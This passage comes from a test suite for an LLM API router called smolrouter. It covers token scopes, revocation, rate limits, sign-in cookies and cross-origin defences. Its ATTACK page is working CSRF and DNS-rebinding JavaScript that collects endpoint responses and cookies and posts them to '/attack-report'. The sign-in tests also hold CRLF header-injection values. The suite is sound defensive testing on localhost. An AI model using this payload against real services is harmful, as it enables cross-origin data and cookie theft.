        # One that has ended, or cannot be read, was meant for the router all the same.
        [("X-SmolRouter-Token", GOOD_TOKEN), ("x-api-key", CARRIED["expired"])],
        [
            ("X-SmolRouter-Token", GOOD_TOKEN),
            ("Authorization", f"Bearer {jwt(HS256, {'exp': 'x'}, SECRET)}"),
        ],
    ):
        router = router_with_policy("ALWAYS_AUTH")
        assert statuses(router, ("GET", "/v1/no-token-upstream", fields)) == [200]
        heard = default_upstream().requests_for("/v1/no-token-upstream")[-1]
        assert GOOD_TOKEN.encode() not in heard.raw_head
        theirs = [v for n, v in fields if "sk-" in v]
        assert heard.get_all("Authorization") + heard.get_all("X-Api-Key") == theirs


def test_a_valid_token_passes_where_others_have_failed() -> None:
    router = router_with_policy("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.0/8")

    def asked(kind: str, source: str) -> tuple[str, str, Pairs]:
        token = [("X-SmolRouter-Token", CARRIED[kind])] if kind != "none" else []
        return "GET", "/v1/models", [("X-Forwarded-For", source), *token]

    tries = [asked(kind, "198.51.100.1") for kind in ["bad", "expired", "wrong alg"] * 4]
    assert statuses(router, *tries) == [401] * 10 + [429] * 2
    kinds = ("good", "none", "expired", "bad", "good")
    more = [asked(kind, "198.51.100.1") for kind in kinds]
    assert statuses(router, *more) == [200, 401, 429, 429, 200]
    assert statuses(router, asked("bad", "198.51.100.2")) == [401]
    late = request(router.port, "GET", "/performance", fields=asked("bad", "198.51.100.1")[2])
    assert (late.status, late.content) == (429, smolrouter.DASHBOARD_HTML.encode())
    assert 0 < int(late.get("Retry-After")) <= 60


# --- scopes ---------------------------------------------------------------------------


TOKEN_NUMBERS = itertools.count()


def scoped(**claims: Any) -> str:
    """Make a token with these scopes, and with a `jti` that no other one has."""
    return jwt(HS256, {"exp": AHEAD, "jti": f"scoped-{next(TOKEN_NUMBERS)}", **claims}, SECRET)


def ask_with(
    router: Router, token: str, method: str, path: str, body: Any = None, **fields: str
) -> Response:
    """Send a request with a token."""
    named = [(name.replace("_", "-"), value) for name, value in fields.items()]
    given = [("Authorization", f"Bearer {token}"), *named]
    return request(router.port, method, path, body, given)


@functools.cache
def models_upstream(name: str) -> Upstream:
    """Return a server of two models, `tiny` and `secret`; another one for each name."""
    return Upstream(models=("tiny", "secret"))


def scoping_router(policy: str, api: str = "openai") -> Router:
    """Return a router in front of two servers with the same two models, and an alias."""
    url = models_upstream("one").url
    settings = {"JWT_SECRET": SECRET, "WEBUI_SECURITY": policy, "API_SECURITY": policy}
    settings["MODEL_MAP"] = '{"tiny-too": "secret"}'
    servers = {name: {"url": models_upstream(name).url, "api": api} for name in ("one", "two")}
    aliases = {"helper": {"instances": ["one/secret"]}}
    routes = {"servers": servers, "aliases": aliases, "revoked": ["stolen", "lost"]}
    return shared_router({**settings, "DEFAULT_UPSTREAM": url, "LOG_LEVEL": "ERROR"}, routes)


@pytest.mark.parametrize("policy", smolrouter.POLICIES)
def test_a_token_asks_for_its_models_alone(policy: str) -> None:
    router = scoping_router(policy)
    token = scoped(models=["tiny*", "helper"])
    for path, stream in ALL_WAYS:
        for model in ("tiny", "tiny-too", "helper", "tiny [two]", "tiny:latest"):
            asked = example_request(path, model, stream)
            assert ask_with(router, token, "POST", path, asked).status == 200, (path, model)
        with nothing_sent_upstream(models_upstream("one")):
            for model in ("secret", "Tiny", "secret [one]", "xtiny", "tin"):
                got = ask_with(router, token, "POST", path, example_request(path, model, stream))
                assert got.status == 403, (path, model)
                check_error(path, got)
                assert "the token is for the models tiny*, helper; not" in got.content.decode()
    # Another token, or none where none is needed, may use all.
    unlimited = ask_with(router, scoped(), "POST", CHAT, chat_document("secret"))
    assert unlimited.status == 200
    without = request(router.port, "POST", CHAT, chat_document("secret"))
    assert without.status == (401 if policy == "ALWAYS_AUTH" else 200)


def test_no_other_spelling_of_a_request_names_another_model() -> None:
    router = scoping_router("ALWAYS_AUTH")
    native = scoping_router("ALWAYS_AUTH", "ollama")
    token = scoped(models=["tiny"])
    form = b'--x\r\nContent-Disposition: form-data; name="model"\r\n\r\nsecret\r\n--x--\r\n'
    as_form = {"Content-Type": "multipart/form-data; boundary=x"}
    hello = {"messages": HELLO_MESSAGES}
    for way, method, path, body, fields in (
        (router, "POST", CHAT, {**hello, "model": "tiny", "Model": "secret"}, {}),
        (router, "POST", CHAT, {**hello, "model": "tiny", "models": ["tiny", "secret"]}, {}),
        (router, "POST", "/v1/audio/transcriptions", form, as_form),
        (router, "POST", "/v1/whatever", {"no": "model"}, {}),
        (router, "POST", "/v1/whatever", b"[]", {}),
        (router, "GET", "/v1/responses/resp_1", None, {}),
        (router, "DELETE", "/v1/files/f", None, {}),
        (router, "POST", "/chat/completions", {**hello, "model": "secret"}, {}),
        (router, "POST", "/v1/v1/chat/completions", {**hello, "model": "secret"}, {}),
        (router, "POST", "/completion", {"prompt": "hi", "model": "secret"}, {}),
        (router, "GET", "/props", None, {}),
        (router, "GET", "/props?model=secret", None, {}),
        (router, "GET", "/props?m%6Fdel=secret", None, {}),
        (router, "POST", "/upstream/one/v1/chat/completions", {**hello, "model": "tiny"}, {}),
        (router, "GET", "/upstream/one/v1/models", None, {}),
        (native, "POST", "/api/chat", {**hello, "model": "tiny", "MODEL": "secret"}, {}),
        (native, "POST", "/api/show", {"model": "tiny", "name": "secret"}, {}),
        (native, "POST", "/api/create", {"model": "tiny", "from": "secret"}, {}),
        (native, "POST", "/api/copy", {"source": "secret", "destination": "tiny"}, {}),
        (native, "POST", "/api/pull", {"model": "tiny"}, {}),
        (native, "POST", "/api/push", {"model": "secret"}, {}),
        (native, "DELETE", "/api/delete", {"model": "tiny"}, {}),
        (native, "POST", "/api/blobs/sha256:0", b"x", {}),
        (native, "GET", "/api/status", None, {}),
    ):
        with nothing_sent_upstream(models_upstream("one")):
            got = ask_with(way, token, method, path, body, **fields)
        assert got.status == 403, (path, got)
        assert "the token is for the models tiny" in got.content.decode()
    fine = {**hello, "model": "tiny", "models": ["tiny"]}
    assert ask_with(router, token, "POST", CHAT, fine).status == 200
    form = form.replace(b"secret", b"tiny")
    path = "/v1/audio/transcriptions"
    assert ask_with(router, token, "POST", path, form, **as_form).status == 200


@pytest.mark.parametrize("policy", smolrouter.POLICIES)
def test_model_lists_show_the_models_of_the_token(policy: str) -> None:
    router = scoping_router(policy)
    token = scoped(models=["tiny", "helper"])
    names = {"tiny", "tiny [one]", "tiny [two]", "helper"}
    listed = ask_with(router, token, "GET", "/v1/models").json["data"]
    assert {model["id"] for model in listed} == names
    tags = ask_with(router, token, "GET", "/api/tags").json["models"]
    assert {model["name"].removesuffix(":latest") for model in tags} == names
    for model, status in (("tiny", 200), ("helper", 200), ("secret", 403), ("tiny-too", 403)):
        assert ask_with(router, token, "GET", f"/v1/models/{model}").status == status, model
        shown = ask_with(router, token, "POST", "/api/show", {"model": model})
        assert shown.status == status, model
    everything = ask_with(router, scoped(), "GET", "/v1/models").json["data"]
    assert {model["id"] for model in everything} > names | {"secret", "tiny-too"}


def test_running_models_are_those_of_the_token() -> None:
    router = scoping_router("NONE")
    name = models_upstream("one").add_script([HANG])
    with connect(router.port) as sock:
        sock.sendall(encode_post(CHAT, chat_document(name)))

        def running(token: str) -> list[str]:
            return [m["name"] for m in ask_with(router, token, "GET", "/api/ps").json["models"]]

        assert wait_until(lambda: name in running(scoped(models=[name])))
        assert running(scoped(models=["tiny"])) == []


@pytest.mark.parametrize("policy", smolrouter.POLICIES)
def test_above_its_rate_a_token_gets_429(policy: str) -> None:
    router = scoping_router(policy)
    token = scoped(rate="5/h")
    # Every request that is let in counts, also one that is refused later.
    asked: list[tuple[str, str, Any]] = [
        ("GET", "/v1/models", None),
        ("GET", "/v1/no/such/path", None),
        ("POST", CHAT, chat_document("tiny")),
        ("POST", CHAT, {}),
        ("GET", "/api/stats", None),
    ]
    got = [ask_with(router, token, *one).status for one in asked]
    assert 429 not in got and got[2:] == [200, 400, 200]
    with nothing_sent_upstream(models_upstream("one")):
        for method, path, body in asked:
            late = ask_with(router, token, method, path, body)
            assert late.status == 429
            assert 3500 < int(late.get("Retry-After")) <= 3600
            assert "the token's rate is 5/h" in late.json["error"]["message"]
    # What needs no token counts for none, and others are not touched.
    assert ask_with(router, token, "GET", "/healthz").status == 200
    assert ask_with(router, token, "GET", "/api/session").json["authenticated"]
    assert ask_with(router, scoped(rate="5/h"), "GET", "/v1/models").status == 200


@pytest.mark.parametrize("policy", smolrouter.POLICIES)
def test_a_token_for_the_api_alone_opens_no_web_ui(policy: str) -> None:
    router = scoping_router(policy)
    token = scoped(api_only=True)
    for path in ("/performance", "/api/logs", "/api/stats", "/metrics", "/api/events"):
        got = ask_with(router, token, "GET", path)
        assert got.status == 403, path
        assert "it opens no Web UI" in got.content.decode()
    refused = sign_in(router, token)
    assert (refused.status, refused.get("Set-Cookie")) == (403, None)
    assert "it opens no Web UI" in refused.content.decode()
    assert not ask_with(router, token, "GET", "/api/session").json["authenticated"]
    assert ask_with(router, token, "GET", "/v1/models").status == 200
    assert ask_with(router, token, "POST", CHAT, chat_document("tiny")).status == 200


@pytest.mark.parametrize("policy", smolrouter.POLICIES)
def test_a_revoked_token_is_refused(policy: str) -> None:
    """Also where none is needed: to revoke a token must not open what its scopes had closed."""
    router = scoping_router(policy)
    for claims in ({"jti": "lost"}, {"jti": "stolen", "models": ["tiny"]}, {"models": "tiny"}):
        token = scoped(**claims)
        for path in ("/v1/models", "/api/stats"):
            got = ask_with(router, token, "GET", path)
            assert (got.status, got.get("WWW-Authenticate")) == (401, "Bearer")
            words = "revoked" if "jti" in claims else "no valid `models`"
            assert words in got.json["error"]["message"]
        assert sign_in(router, token, ("Origin", f"http://127.0.0.1:{router.port}")).status == 401


def test_a_token_is_revoked_while_the_router_runs() -> None:
    token = scoped(jti="alice-1")
    settings = {"JWT_SECRET": SECRET, "API_SECURITY": "ALWAYS_AUTH"}
    with Router(settings, {"revoked": []}) as router:
        assert ask_with(router, token, "GET", "/v1/models/x").status != 401
        router.routes.write_text('{"revoked": ["alice-1"]}')
        router.signal(signal.SIGHUP)
        assert wait_until(lambda: ask_with(router, token, "GET", "/v1/models/x").status == 401)


@each_openai
def test_openai_sdk_with_a_token_as_its_key(sdk: Sdk) -> None:
    openai = import_or_skip("openai")
    url = f"{scoping_router('ALWAYS_AUTH').url}/v1"
    # Its every call is one request, and of these four are let in.
    key = scoped(models=["tiny"], rate="4/h")

    def ask(method: str, **named: Any) -> Any:
        async def ask_async() -> Any:
            async with openai.AsyncOpenAI(base_url=url, api_key=key, max_retries=0) as client:
                return await operator.attrgetter(method)(client)(**named)

        if sdk.asynchronous:
            return run_in_loop(ask_async())
        with openai.OpenAI(base_url=url, api_key=key, max_retries=0) as client:
            return operator.attrgetter(method)(client)(**named)

    chat = "chat.completions.create"
    answer = ask(chat, model="tiny", messages=HELLO_MESSAGES)
    assert answer.choices[0].message.content == HELLO_ANSWER
    assert {model.id for model in ask("models.list").data} == {"tiny", "tiny [one]", "tiny [two]"}
    with pytest.raises(openai.PermissionDeniedError, match="for the models tiny"):
        ask(chat, model="secret", messages=HELLO_MESSAGES)
    assert ask("embeddings.create", model="tiny", input="hi").data
    with pytest.raises(openai.RateLimitError, match="rate is 4/h") as raised:
        ask(chat, model="tiny", messages=HELLO_MESSAGES)
    assert int(raised.value.response.headers["Retry-After"]) > 3500


@each_ollama
def test_ollama_sdk_with_a_token_in_its_fields(sdk: Sdk) -> None:
    ollama = import_or_skip("ollama")
    fields = {"Authorization": f"Bearer {scoped(models=['tiny'])}"}
    url = scoping_router("ALWAYS_AUTH").url

    async def ask_async(method: str, **named: Any) -> Any:
        async with ollama.AsyncClient(host=url, headers=fields) as client:
            return await getattr(client, method)(**named)

    def ask(method: str, **named: Any) -> Any:
        if sdk.asynchronous:
            return run_in_loop(ask_async(method, **named))
        with ollama.Client(host=url, headers=fields) as client:
            return getattr(client, method)(**named)

    assert ask("chat", model="tiny", messages=HELLO_MESSAGES).message.content == HELLO_ANSWER
    listed = {model.model for model in ask("list").models}
    assert {name.removesuffix(":latest") for name in listed} == {"tiny", "tiny [one]", "tiny [two]"}
    with pytest.raises(ollama.ResponseError, match="for the models tiny") as raised:
        ask("chat", model="secret", messages=HELLO_MESSAGES)
    assert raised.value.status_code == 403


# --- signing in -----------------------------------------------------------------------


def sign_in(router: Router, token: Any, *fields: tuple[str, str], **more: Any) -> Response:
    """Try to sign in as the page does it."""
    host = ("Origin", f"http://127.0.0.1:{router.port}")
    fields = fields if "Origin" in dict(fields) else (host, *fields)
    return request(router.port, "POST", "/api/signin", {"token": token}, fields, **more)


def test_signing_in_and_out() -> None:
    router = router_with_policy("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.3")
    asked = request(router.port, "GET", "/api/session").json
    version = smolrouter.__version__
    wanted = {"version": version, "webui_security": "ALWAYS_AUTH", "needs_token": True}
    assert asked == {**wanted, "authenticated": False}
    page = request(router.port, "GET", "/performance")
    assert (page.status, page.content) == (401, smolrouter.DASHBOARD_HTML.encode())
    assert page.get("Content-Security-Policy") and page.get("X-Frame-Options") == "DENY"
    assert page.get("WWW-Authenticate") == "Bearer"

    got = sign_in(router, GOOD_TOKEN)
    assert (got.status, got.content) == (204, b"")
    value, *limits = (got.get("Set-Cookie") or "").split("; ")
    assert value == f"smolrouter_token={GOOD_TOKEN}"
    age = limits.pop(0)
    assert age == "Max-Age=34560000" and limits == ["Path=/", "HttpOnly", "SameSite=Strict"]
    cookie = [("Cookie", value)]
    assert request(router.port, "GET", "/performance", fields=cookie).status == 200
    assert request(router.port, "GET", "/api/inflight", fields=cookie).status == 200
    asked = request(router.port, "GET", "/api/session", fields=cookie).json
    assert asked == {**wanted, "authenticated": True}

    out = request(router.port, "POST", "/api/signout", b"", fields=cookie)
    assert out.status == 204
    assert (out.get("Set-Cookie") or "").startswith("smolrouter_token=; Max-Age=0;")


@pytest.mark.parametrize("content, status", [
    (b" " * 20_000 + b"{}", 400), (b"", 400), (b"{}", 400), (b"[]", 400),
    (b'{"token": 7}', 400), (b'{"token": null}', 400),
    (b'{"token": ""}', 401), (b'{"token": "x\\r\\nSet-Cookie: a=b"}', 401),
    (encode_json({"token": GOOD_TOKEN + "\r\nA: b"}), 401),
    (encode_json({"token": GOOD_TOKEN + "=; x=y"}), 401),
    (encode_json({"token": CARRIED["bad"]}), 401),
    (encode_json({"token": CARRIED["wrong alg"]}), 401),
])  # fmt: skip
def test_bad_sign_in(content: bytes, status: int) -> None:
    router = router_with_policy("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.1")
    fields = [("X-Forwarded-For", another_address())]
    got = request(router.port, "POST", "/api/signin", content, fields)
    assert (got.status, got.get("Set-Cookie")) == (status, None)


def test_sign_in_without_a_secret_is_refused_with_the_reason() -> None:
    got = sign_in(router_with_policy("NONE", ""), GOOD_TOKEN)
    assert got.status == 403 and "JWT_SECRET" in got.json["error"]["message"]


def test_cookie_is_secure_where_the_page_was() -> None:
    router = router_with_policy(
        "ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.1", ALLOWED_HOSTS="m.example"
    )
    plain = router_with_policy("ALWAYS_AUTH")
    secured = ("X-Forwarded-Proto", "https")
    own = ("Host", "m.example")
    for way, fields, secure in (
        (router, [secured], True),
        (router, [("X-Forwarded-Proto", "http")], False),
        (router, [("X-Forwarded-Proto", "https, http")], False),
        (router, [], False),
        # Without TRUSTED_PROXIES anybody could say so.
        (plain, [secured], False),
        (plain, [("Origin", f"https://127.0.0.1:{plain.port}")], True),
    ):
        got = sign_in(way, GOOD_TOKEN, *fields)
        assert got.status == 204
        assert ("; Secure" in got.get("Set-Cookie")) == secure, fields
    data = encode_request(
        "POST", "/api/signin", {"token": GOOD_TOKEN}, [("Origin", "https://m.example")]
    )
    got = parse_response(
        send_raw(router.port, data.replace(b"Host: router", b"Host: %b" % own[1].encode()))
    )
    assert got.status == 204 and "; Secure" in got.get("Set-Cookie")


def test_sign_in_from_another_page_is_refused() -> None:
    for origin in ("https://evil.example", "null", "http://localhost:1"):
        got = sign_in(router_with_policy("ALWAYS_AUTH"), GOOD_TOKEN, ("Origin", origin))
        assert (got.status, got.get("Set-Cookie")) == (403, None)


def test_session_is_no_way_to_try_tokens() -> None:
    router = router_with_policy("ALWAYS_AUTH", TRUSTED_PROXIES="127.0.0.1", MAX_CONNECTIONS=99)
    source = ("X-Forwarded-For", another_address())
    for _ in range(10):
        fields = [source, ("X-SmolRouter-Token", CARRIED["bad"])]
        assert not request(router.port, "GET", "/api/session", fields=fields).json["authenticated"]
    assert sign_in(router, CARRIED["bad"], source).status == 429
    assert sign_in(router, GOOD_TOKEN, source).status == 204


# --- pages from elsewhere -------------------------------------------------------------


def test_answers_of_the_web_ui_stay_where_they_are() -> None:
    page = "/performance"
    for path, status in ((page, 200), ("/api/inflight", 200), ("/api/session", 200), (page, 421)):
        data = encode_get(path, [("Connection", "close")])
        if status == 421:
            data = data.replace(b"Host: router", b"Host: evil.example")
        got = parse_response(send_raw(default_router().port, data, answers=0))
        assert got.status == status
        assert got.get("Cache-Control") == "no-store"
        assert got.get("X-Content-Type-Options") == "nosniff"
        assert got.get("X-Frame-Options") == "DENY"
        assert got.get("Cross-Origin-Resource-Policy") == "same-origin"


def test_a_page_of_a_server_cannot_use_the_web_ui() -> None:
    """A server's HTML would be of the router's origin; a browser must not run it."""
    script = default_upstream().add_script(
        whole_response(b"<script>fetch('/api/logs')</script>", kind="text/html")
    )
    shown = [("Accept", "text/html,*/*;q=0.8")]
    got = request(default_router().port, "GET", f"/v1/{script}", fields=shown)
    assert "sandbox" in got.get("Content-Security-Policy")
    assert "allow-scripts" not in got.get("Content-Security-Policy")
    assert (
        request(default_router().port, "GET", f"/v1/{script}").get("Content-Security-Policy")
        is None
    )


def test_preflight() -> None:
    for origin, status in (("http://localhost:3000", 204), ("https://evil.example", 403)):
        fields = [
            ("Origin", origin),
            ("Access-Control-Request-Method", "POST"),
            ("Access-Control-Request-Headers", "authorization, x-stainless-os"),
        ]
        got = request(default_router().port, "OPTIONS", CHAT, fields=fields)
        assert got.status == status
        if status == 204:
            assert got.get("Access-Control-Allow-Origin") == origin
            assert "POST" in got.get("Access-Control-Allow-Methods")
            assert got.get("Access-Control-Allow-Headers") == fields[2][1]
        else:
            assert got.get("Access-Control-Allow-Origin") is None
    got = request(
        default_router().port,
        "OPTIONS",
        "/api/inflight",
        fields=[("Origin", "http://localhost:3000"), ("Access-Control-Request-Method", "GET")],
    )
    assert (got.status, got.get("Access-Control-Allow-Origin")) == (403, None)


def test_page_from_elsewhere_reaches_no_upstream() -> None:
    fields = [("Origin", "https://evil.example"), ("Content-Type", "text/plain")]
    body = chat_document("csrf-from-elsewhere")
    assert request(default_router().port, "POST", CHAT, body, fields).status == 403
    assert not default_upstream().requests_for("csrf-from-elsewhere")


ATTACK = """<!doctype html><title>attack</title><form method=post enctype=text/plain
target=frame><input name='{"model":"MARK-form","x":"' value='"}'></form>
<iframe name=frame></iframe><script>
const at = "TARGET", chat = at + "/v1/chat/completions", got = {};
const ask = name => JSON.stringify({model: "MARK-" + name, messages: []});
const plain = {"Content-Type": "text/plain"}, json = {"Content-Type": "application/json"};
const read = async (name, url, options) => {
  try {
    const answer = await fetch(url, options);
    got[name] = `${answer.type} ${answer.status} ${await answer.text()}`;
  } catch (error) { got[name] = "refused"; }
};
const load = (tag, url) => new Promise(done => {
  const node = document.createElement(tag);
  node.onload = () => done("loaded"); node.onerror = () => done("refused");
  node.src = url; document.body.append(node); setTimeout(done, 2000, "refused");
});
(async () => {
  await Promise.all([
    read("running", at + "/api/inflight"), read("logs", at + "/api/logs"),
    read("models", at + "/v1/models"), read("page", at + "/"),
    read("blind get", at + "/v1/MARK-blind-get", {mode: "no-cors"}),
    read("simple", chat, {method: "POST", headers: plain, body: ask("simple")}),
    read("no-cors", chat, {method: "POST", mode: "no-cors", headers: plain, body: ask("blind")}),
    read("preflight", chat, {method: "POST", headers: json, body: ask("preflight")}),
    read("sign-in", at + "/api/signin", {method: "POST", body: "{}"}),
    read("credentials", at + "/api/inflight", {credentials: "include"}),
  ]);
  navigator.sendBeacon(chat, ask("beacon"));
  document.forms[0].action = chat; document.forms[0].submit();
  got.script = await load("script", at + "/api/inflight");
  got.image = await load("img", at + "/v1/MARK-image");
  const frame = document.createElement("iframe");
  frame.src = at + "/"; document.body.append(frame);
  await new Promise(done => { frame.onload = done; setTimeout(done, 2000); });
  try { got.frame = frame.contentDocument ? frame.contentDocument.body.innerText : "refused"; }
  catch (error) { got.frame = "refused"; }
  got.cookie = document.cookie;
  await fetch("/attack-report", {method: "POST", body: JSON.stringify(got)});
  if ("NEXT") location = "NEXT";
})();
</script>"""


class Attacker:
    """A web site that attacks from a browser; once loaded, its name means the router.

    That is DNS rebinding: `/attack...` is the site's own, all else goes to the router.
    """

    def __init__(self, router: Router) -> None:
        self.router = router
        self.page = ""
        self.report = ""
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                sock, _ = self._listener.accept()
                threading.Thread(target=self._serve, args=(sock,), daemon=True).start()

    def _serve(self, sock: socket.socket) -> None:
        with contextlib.suppress(OSError), sock, sock.makefile("rb") as reader:
            while received := read_request(sock, reader, 0):
                if received.path == "/attack-report":
                    self.report = received.content.decode()
                    sock.sendall(whole_response(b"")[0])
                elif received.path == "/attack":
                    sock.sendall(whole_response(self.page.encode(), kind="text/html")[0])
                else:
                    # Pass it on to the router as it is, but on a connection of its own.
                    asked = received.raw_head + b"\r\n" + received.content
                    asked = re.sub(rb"(?i)\r\nconnection: [^\r]*", b"", asked, count=1)
                    asked = asked.replace(b"\r\n", b"\r\nConnection: close\r\n", 1)
                    sock.sendall(send_raw(self.router.port, asked, answers=0))
                    return

    def close(self) -> None:
        self._listener.close()


@contextlib.contextmanager
def browsing(url: str, folder: pathlib.Path) -> Iterator[None]:
    """Open an address in a real browser, for which evil.example is this machine."""
    flags = [
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--no-first-run",
        "--disable-background-networking",
        f"--user-data-dir={folder}",
        "--host-resolver-rules=MAP evil.example 127.0.0.1",
        "--proxy-server=direct://",
    ]
    process = subprocess.Popen(
        [chromium_path(), *flags, url],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        yield
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.wait()


def test_a_real_browser_is_no_way_in(tmp_path: pathlib.Path) -> None:
    """A page of another origin, one of a rebound name, and both where all is allowed."""
    closed = default_router()
    settings = {"ALLOWED_ORIGINS": "*", "ALLOWED_HOSTS": "evil.example", "LOG_LEVEL": "ERROR"}
    opened = shared_router({"DEFAULT_UPSTREAM": default_upstream().url, **settings})
    sites = {
        name: Attacker(router)
        for name, router in (
            ("elsewhere", closed),
            ("rebound", closed),
            ("allowed", opened),
            ("own", opened),
        )
    }
    urls = {name: f"http://evil.example:{site.port}/attack" for name, site in sites.items()}
    for (name, site), after in zip(sites.items(), [*list(urls.values())[1:], ""]):
        target = f"http://127.0.0.1:{site.router.port}" if name in ("elsewhere", "allowed") else ""
        page = ATTACK.replace("TARGET", target).replace("MARK", name)
        site.page = page.replace("NEXT", after)
    with browsing(urls["elsewhere"], tmp_path / "profile"):
        wait_until(lambda: sites["own"].report, 60)
    for site in sites.values():
        site.close()
    got = {name: json.loads(site.report) for name, site in sites.items()}
    for name in ("elsewhere", "rebound"):
        said = " ".join(got[name].values())
        assert "200" not in said and "SmolRouter" not in said, got[name]
        assert not default_upstream().requests_for(name), name
    # The same attacks do arrive where they are allowed, so they are real ones.
    assert got["elsewhere"]["models"] == "refused"
    assert got["rebound"]["running"].startswith("basic 421")
    # The `*` of ALLOWED_ORIGINS is for the model API alone.
    assert got["allowed"]["running"] == "refused"
    for name in ("allowed", "own"):
        assert "tiny" in got[name]["models"]
        for kind in ("simple", "preflight", "beacon", "form"):
            assert wait_until(lambda: default_upstream().requests_for(f"{name}-{kind}")), (
                name,
                kind,
            )
    assert got["own"]["running"].startswith("basic 200")
    assert default_upstream().requests_for("own-blind-get") and not default_upstream().requests_for(
        "allowed-blind-get"
    )


# --- behind the proxies of the guide --------------------------------------------------

NGINX = """daemon off; pid {folder}/pid; error_log {folder}/log; events {{}}
{user} http {{ access_log off; client_body_temp_path {folder}/a; proxy_temp_path {folder}/b;
fastcgi_temp_path {folder}/c; uwsgi_temp_path {folder}/d; scgi_temp_path {folder}/e;
{server} }}"""
CADDY = (
    "{{ admin off\n auto_https disable_redirects\n skip_install_trust\n storage file_system "
    "{folder}\n}}\n{server}"
)


@contextlib.contextmanager
def behind_proxy(program: str, router: Router) -> Iterator[int]:
    """Start a proxy in front of a router, set up as the guide says, and yield its port."""
    found = shutil.which(program, path=f"{os.environ['PATH']}:/usr/sbin")
    tls = self_signed_certificate()
    if not found and program == "nginx" and os.environ.get("SMOLROUTER_TEST_ALL") == "1":
        pytest.fail("SMOLROUTER_TEST_ALL=1, but there is no nginx")
    if not found or not tls:
        pytest.skip(f"there is no {program}, or no openssl")
    guide = (HERE / "docs/guide.md").read_text("utf-8")
    server = guide.partition(f"```{program}\n")[2].partition("```")[0]
    with socket.create_server(("127.0.0.1", 0)) as probe:
        port = probe.getsockname()[1]
    for old, new in (
        ("127.0.0.1:1234", f"127.0.0.1:{router.port}"), ("listen 443", f"listen 127.0.0.1:{port}"),
        ("/etc/ssl/models.crt", tls[0]), ("/etc/ssl/models.key", tls[0].replace("cert.", "key.")),
        ("models.example.com {", f"https://models.example.com:{port} {{\n"
         f"bind 127.0.0.1\ntls {tls[0]} {tls[0].replace('cert.', 'key.')}"),
    ):  # fmt: skip
        server = server.replace(old, new)
    with tempfile.TemporaryDirectory(prefix="smol-") as folder:
        user = "user root;" if os.getuid() == 0 else ""
        form = NGINX if program == "nginx" else CADDY
        config = pathlib.Path(folder) / "config"
        config.write_text(form.format(folder=folder, server=server, user=user))
        args = {
            "nginx": ["-c", str(config), "-p", folder, "-e", f"{folder}/log"],
            "caddy": ["run", "--adapter", "caddyfile", "--config", str(config)],
        }
        environment = {**bare_environment({}), "HOME": folder}
        process = subprocess.Popen(
            [found, *args[program]],
            env=environment,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:

            def listens() -> bool:
                with contextlib.suppress(OSError), connect(port):
                    return True
                return False

            assert wait_until(listens) and process.poll() is None
            yield port
        finally:
            process.terminate()
            process.wait(PATIENCE)


def request_through_proxy(port: int, *asked: Any) -> tuple[int, Mapping[str, str], Iterator[bytes]]:
    """Send one request to a proxy over TLS; return status, fields and the pieces of the content."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    caller = http.client.HTTPSConnection("127.0.0.1", port, timeout=PATIENCE, context=context)
    caller.sock = context.wrap_socket(connect(port), server_hostname="models.example.com")
    method, path, body, fields = asked
    caller.request(
        method,
        path,
        body and encode_json(body),
        {"Host": f"models.example.com:{port}", "Content-Type": "application/json", **fields},
    )
    response = caller.getresponse()

    def pieces() -> Iterator[bytes]:
        with contextlib.closing(caller):
            while piece := response.read1(1 << 20):
                yield piece

    streams = "event-stream" in response.headers.get("Content-Type", "")
    return response.status, response.headers, pieces() if streams else iter([*pieces()])


@pytest.mark.parametrize("program", ["nginx", "caddy"])
def test_proxy_of_the_guide(program: str) -> None:
    more = {"TRUSTED_PROXIES": "127.0.0.1", "ALLOWED_HOSTS": "models.example.com"}
    router = router_with_policy("AUTH_WHEN_PROXIED", **more)
    token = {"Authorization": f"Bearer {GOOD_TOKEN}"}
    step = threading.Event()

    def paced(received: Received) -> Iterator[Step]:
        yield from stream_response([encode_event({"n": 1})], whole=False)
        assert step.wait(PATIENCE)
        yield from encode_chunks(encode_event({"n": 2}))

    name = default_upstream().add_script(paced)
    with behind_proxy(program, router) as port:
        own = {"Origin": f"https://models.example.com:{port}"}
        for path in ("/v1/models", "/api/logs"):
            assert request_through_proxy(port, "GET", path, None, {})[0] == 401
            assert request_through_proxy(port, "GET", path, None, token)[0] == 200
        # A direct request needs no token.
        assert statuses(router, ("GET", "/v1/models", [])) == [200]
        status, fields, _ = request_through_proxy(
            port, "POST", "/api/signin", {"token": GOOD_TOKEN}, own
        )
        assert status == 204 and "; Secure" in fields["Set-Cookie"]
        cookie = {"Cookie": fields["Set-Cookie"].partition(";")[0]}
        assert request_through_proxy(port, "GET", "/performance", None, {})[0] == 401
        assert request_through_proxy(port, "GET", "/performance", None, cookie)[0] == 200
        tried = {**own, **cookie}
        assert request_through_proxy(port, "POST", CHAT, chat_document("tiny"), tried)[0] == 200
        evil = {**cookie, "Origin": "https://evil.example"}
        assert request_through_proxy(port, "POST", CHAT, chat_document("tiny"), evil)[0] == 403
        status, fields, pieces = request_through_proxy(
            port, "POST", CHAT, chat_document(name, stream=True), token
        )
        # The first event arrives before the second one is sent.
        assert status == 200 and b'{"n":1}' in next(pieces)
        step.set()
        assert b'{"n":2}' in b"".join(pieces)


# ======================================================================================
# 11  HTTP on streams
# ======================================================================================
# Content and answers as a client sees them on a connection, slow and broken ones too.

# --- connections, without a program around them ----------------------------------------


def test_head_at_every_split() -> None:
    """However it comes: the head, and what follows it for the next reader."""
    head = b"GET / HTTP/1.1\r\nHost: a"

    async def read(pieces: Sequence[bytes]) -> tuple[bytes | None, bytes]:
        connection = smolrouter.Connection(smolrouter.LoopBatch())
        reading = asyncio.ensure_future(connection.read_head(100))
        for piece in pieces:
            await asyncio.sleep(0)
